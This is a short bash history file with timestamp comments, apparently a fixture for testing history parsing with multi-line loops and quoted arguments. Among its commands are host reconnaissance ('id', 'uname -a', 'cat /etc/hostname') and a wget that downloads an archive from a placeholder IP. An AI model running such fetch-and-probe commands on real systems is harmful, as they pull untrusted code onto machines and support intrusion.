id
uname -a
exit
#1796629145
shopt -s histappend lithist
#1796629145
cd /tmp/a2_hist/work
#1796629145
ls -la
#1796629145
wget -q -T 1 -t 1 http://203.0.113.5/x.tgz
#1796629145
sleep 1
#1796629146
for i in 1 2; do
echo "$i"
done
#1796629146
echo 'a "quoted" argument' > note.txt
#1796629146
cat /etc/hostname
#1796629146
exit
